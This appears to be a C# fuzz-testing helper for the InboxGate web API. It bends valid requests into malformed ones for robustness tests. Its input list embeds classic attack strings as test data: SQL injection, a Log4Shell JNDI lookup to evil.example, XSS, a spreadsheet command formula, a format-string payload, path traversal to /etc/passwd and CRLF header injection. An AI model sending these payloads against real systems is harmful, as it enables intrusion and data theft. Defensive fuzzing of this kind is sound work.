using System.Globalization;
using System.Text;
using System.Text.Json.Nodes;
using InboxGate.Web.Tests.Api;

namespace InboxGate.Web.Tests.Fuzz;

/// <summary>One thing of a good request made odd.</summary>
/// <param name="MissesRoute">What is bent may lead elsewhere: then the description binds nobody.</param>
/// <param name="Apply">False where there is nothing of the kind to bend.</param>
internal sealed record Bend(string Name, bool MissesRoute, Func<ApiRequest, Random, bool> Apply);

internal static class Bends
{
    /// <summary>Stands for half a character, which no text of .NET's writes into JSON.</summary>
    private const string LoneSurrogate = "@@half@@";

    private static readonly string[] Strange =
    [
        "", " ", "\0", "a\0b", "\u202Eabc", "\uFEFF", "😀👩‍👩‍👧‍👦", "İıſß", LoneSurrogate, "x\r\nInjected: yes", "\t", "null", "true", "NaN", "1e999", "-0", "0x10",
        "'; DROP TABLE reps; --", "\" OR 1=1", "${jndi:ldap://evil.example/x}", "{{7*7}}", "<script>alert(1)</script>", "=cmd|' /C calc'!A0", "%s%n%x", "../../etc/passwd",
        "%00", "%2e%2e%2f", "a/b", "a\\b", "9999-12-31", "0001-01-01", "2026-02-30", "9999-12-31T23:59:59.9999999Z", "0001-01-01T00:00:00+14:00", "2026-03-02T08:00:00",
        "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "@", "a@b", "@example.com", "a@@b.example", "xn--a.example", "gmail.com", "co.uk",
        "+", "+0", "+999999999999999999", "25:00", "-1", "2147483648", "9223372036854775808", "prospect", "unknown", "team",
    ];

    private static readonly string[] MediaTypes =
    [
        "text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data", "multipart/form-data; boundary=", "application/octet-stream", "x",
        "application/json; charset=utf-16", "application/json; charset=nonsense", "application/vnd.api+json", "multipart/form-data; boundary=\"a\"; boundary=b",
    ];

    public static IReadOnlyList<Bend> All { get; } =
    [
        new("a value of another type", false, (x, random) => x.Json is not null && Replace(x, random, _ => Wild(random, 0))),
        new("a strange text", false, (x, random) => x.Json is not null && Replace(x, random, _ => Pick(random, Strange))),
        new("a field too many", false, AddField),
        new("a field too few", false, RemoveField),
        new("broken JSON", false, Break),
        new("another encoding", false, Encode),
        new("another content type", false, Mistype),
        new("a strange path value", true, StrangePath),
        new("a strange query value", false, StrangeQuery),
        new("another method", true, (x, random) => Set(() => x.Method = Pick(random, ["PATCH", "HEAD", "OPTIONS", "POST", "GET", "DELETE", "PUT", "PROPFIND", "QUERY"]))),
        new("a tail", true, (x, random) => Set(() => x.Tail = Pick(random, ["/", "//", "/..", "/.", ";v=1", "%20", "%2F", "/x", "?", "%", "%zz", "%C0%AF"]))),
        new("strange headers", false, StrangeHeaders),
        new("a body too large", false, Inflate),
        new("a broken form", false, BreakForm),
    ];

    public static string Text(ApiRequest request) =>
        request.Json?.ToJsonString().Replace(LoneSurrogate, "\\ud800", StringComparison.Ordinal) ?? "";

    private static bool Replace(ApiRequest request, Random random, Func<string, JsonNode?> value)
    {
        var places = new List<Action<JsonNode?>>();
        Collect(request.Json!, places);
        if (places.Count == 0 || random.Next(20) == 0)
        {
            request.Json = value("");
        }
        else
        {
            places[random.Next(places.Count)](value(""));
        }

        request.Raw = Encoding.UTF8.GetBytes(request.Json is null ? "null" : Text(request));
        return true;
    }

    private static void Collect(JsonNode node, List<Action<JsonNode?>> places)
    {
        switch (node)
        {
            case JsonObject said:
                foreach (var (name, inner) in said.ToList())
                {
                    places.Add(value => said[name] = value);
                    if (inner is not null)
                    {
                        Collect(inner, places);
                    }
                }

                break;
            case JsonArray items:
                for (var i = 0; i < items.Count; i++)
                {
                    var place = i;
                    places.Add(value => items[place] = value);
                    if (items[i] is { } inner)
                    {
                        Collect(inner, places);
                    }
                }

                break;
        }
    }

    private static JsonNode? Wild(Random random, int depth) => random.Next(depth > 3 ? 9 : 12) switch
    {
        0 => null,
        1 => random.Next(2) == 0,
        2 => random.Next(-3, 3),
        3 => long.MaxValue,
        4 => long.MinValue,
        5 => 1e308,
        6 => 0.1,
        7 => Pick(random, Strange),
        8 => new string((char)random.Next('a', 0x3000), random.Next(1, 4000)),
        9 => new JsonArray([.. Enumerable.Range(0, random.Next(5)).Select(_ => Wild(random, depth + 1))]),
        10 => new JsonArray([.. Enumerable.Range(0, random.Next(200, 1200)).Select(_ => (JsonNode)random.Next(100))]),
        _ => new JsonObject(Enumerable.Range(0, random.Next(4)).Select(x => KeyValuePair.Create($"{Pick(random, Strange)}{x}", Wild(random, depth + 1)))),
    };

    private static bool AddField(ApiRequest request, Random random)
    {
        if (request.Json is not JsonObject said)
        {
            return false;
        }

        said[Pick(random, ["colour", "Kind ", "__proto__", "$type", "constructor", "tenantId", "repId", "revision", ""])] = Wild(random, 2);
        return true;
    }

    private static bool RemoveField(ApiRequest request, Random random)
    {
        if (request.Json is not JsonObject { Count: > 0 } said)
        {
            return false;
        }

        said.Remove(said.ElementAt(random.Next(said.Count)).Key);
        return true;
    }

    private static bool Break(ApiRequest request, Random random)
    {
        if (request.Operation.MediaType is null || request.Operation.IsForm)
        {
            return false;
        }

        var text = request.Json is null ? "{}" : Text(request);
        request.ContentType = "application/json";
        request.Raw = Encoding.UTF8.GetBytes(random.Next(9) switch
        {
            0 => text[..random.Next(text.Length)],
            1 => text + ",",
            2 => text + text,
            3 => "/* */" + text,
            4 => new string('[', random.Next(10, 5000)),
            5 => string.Concat(Enumerable.Repeat("{\"a\":", 500)) + "1" + new string('}', 500),
            6 => text.Replace(":", ",", StringComparison.Ordinal),
            7 => text.Length > 2 ? $"{text[..^1]},{text[1..]}" : "{{",
            _ => "{\"\\ud800\":\"\\udc00\\ud800\"}",
        });
        return true;
    }

    private static bool Encode(ApiRequest request, Random random)
    {
        if (request.Json is null)
        {
            return false;
        }

        var text = Text(request);
        byte[] invalid = [0xC3, 0x28, 0xFF, 0xFE, 0xED, 0xA0, 0x80];
        request.Raw = random.Next(5) switch
        {
            0 => Encoding.Unicode.GetBytes(text),
            1 => [.. Encoding.UTF8.Preamble, .. Encoding.UTF8.GetBytes(text)],
            2 => [.. Encoding.UTF8.GetBytes(text), .. invalid],
            3 => [.. "{\"reason\":\""u8, .. invalid, .. "\"}"u8],
            _ => Encoding.Latin1.GetBytes(text + "é"),
        };
        return true;
    }

    private static bool Mistype(ApiRequest request, Random random)
    {
        request.ContentType = random.Next(8) == 0 && request.Operation.MediaType is not null ? null : Pick(random, MediaTypes);
        request.Raw ??= request.Body ?? "x"u8.ToArray();
        return true;
    }

    private static bool StrangePath(ApiRequest request, Random random)
    {
        if (request.Path.Count == 0)
        {
            return false;
        }

        var name = request.Path.Keys.ElementAt(random.Next(request.Path.Count));
        request.Path[name] = random.Next(6) == 0 ? new string('x', random.Next(100, 3000)) : Strangely(random);
        return true;
    }

    private static bool StrangeQuery(ApiRequest request, Random random)
    {
        var known = request.Operation.Parameters.Where(x => x.In == "query").Select(x => x.Name).ToList();
        var name = known.Count == 0 || random.Next(10) == 0 ? Pick(random, ["x", "", "access_token", "take[]", "take.x"]) : known[random.Next(known.Count)];
        if (random.Next(4) != 0)
        {
            request.Query.RemoveAll(x => x.Name == name);
        }

        request.Query.Add((name, random.Next(6) == 0 ? new string('y', random.Next(100, 3000)) : Strangely(random)));
        return true;
    }

    private static bool StrangeHeaders(ApiRequest request, Random random)
    {
        (string, string)[] headers =
        [
            ("If-None-Match", "*"), ("If-None-Match", "\"x\", W/\"y\", ,\""), ("If-None-Match", new string('"', 500)), ("Accept", "text/html;q=abc, */*;q=0"), ("Accept", ",,,"),
            ("Accept", "application/x-ndjson"), ("Accept-Language", "xx-XX-xx;q=2,*;q=,"), ("Accept-Encoding", "zstd, br;q=0, *;q=1"), ("Range", "bytes=0-1,5-9999999999999"),
            ("X-Forwarded-For", "8.8.8.8, ::1, nonsense"), ("X-Forwarded-Proto", "gopher"), ("X-HTTP-Method-Override", "DELETE"), ("Cookie", "a=" + new string('c', 3000)),
            ("Origin", "null"), ("Content-Encoding", "gzip"), ("Prefer", "return=minimal"), ("traceparent", "00-zz-zz-01"), ("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"),
            ("baggage", "a=" + new string('b', 2000)), ("If-Modified-Since", "yesterday"), ("Content-Language", "\"'"), ("Forwarded", "for=\"[::1\""), ("X-Requested-With", "\"\\"),
        ];
        request.Headers.Add(headers[random.Next(headers.Length)]);
        return true;
    }

    private static bool Inflate(ApiRequest request, Random random)
    {
        if (request.Operation.MediaType is null)
        {
            return false;
        }

        // A form may bring tens of megabytes: its length alone is told.
        request.ContentType ??= "application/json";
        request.Raw = request.Operation.IsForm
            ? Encoding.UTF8.GetBytes("--x\r\n" + new string('x', random.Next(1000, 50_000)))
            : Encoding.UTF8.GetBytes($"{{\"reason\":\"{new string('x', random.Next(300_000, 400_000))}\"}}");
        return true;
    }

    private static bool BreakForm(ApiRequest request, Random random)
    {
        if (!request.Operation.IsForm)
        {
            return false;
        }

        var text = Encoding.UTF8.GetString(request.Raw!);
        request.Raw = random.Next(10) switch
        {
            0 => Encoding.UTF8.GetBytes(text[..random.Next(text.Length)]),
            1 => Encoding.UTF8.GetBytes(text.Replace("file", "fyle", StringComparison.Ordinal)),
            2 => Encoding.UTF8.GetBytes(text.Replace(",", Pick(random, ["\"", "\0", ";", "\t", "\n", "\""]), StringComparison.Ordinal)),
            3 => Encoding.UTF8.GetBytes(text.Replace("Email", Pick(random, Strange), StringComparison.Ordinal)),
            4 => Encoding.UTF8.GetBytes(text.Replace("Pia", Pick(random, Strange), StringComparison.Ordinal)),
            5 => [.. Encoding.UTF8.GetBytes(text[..(text.Length / 2)]), 0xFF, 0xFE, 0x00, 0xD8, .. Encoding.UTF8.GetBytes(text[(text.Length / 2)..])],
            6 => Encoding.UTF8.GetBytes(text.Replace("BEGIN:VEVENT", $"BEGIN:VEVENT\r\nRRULE:FREQ={Pick(random, ["SECONDLY", "DAILY;INTERVAL=0", "YEARLY;COUNT=999999999", "MONTHLY;BYDAY=99MO"])}", StringComparison.Ordinal)),
            7 => Encoding.UTF8.GetBytes(text.Replace("202612", Pick(random, ["999912", "000100", "20269", "-20261"]), StringComparison.Ordinal)),
            8 => Encoding.UTF8.GetBytes(text.Replace("name=\"file\"", string.Create(CultureInfo.InvariantCulture, $"name=\"{Pick(random, ["mapping", "kind", "region", "removeMissing", "onConflict", "id"])}\"\r\n\r\n{Pick(random, Strange)}\r\n------inboxgate\r\nContent-Disposition: form-data; name=\"file\""), StringComparison.Ordinal)),
            _ => [],
        };
        return true;
    }

    private static string Strangely(Random random) => Pick(random, Strange).Replace(LoneSurrogate, "\uFFFD", StringComparison.Ordinal);

    private static string Pick(Random random, string[] texts) => texts[random.Next(texts.Length)];

    private static bool Set(Action bend)
    {
        bend();
        return true;
    }
}
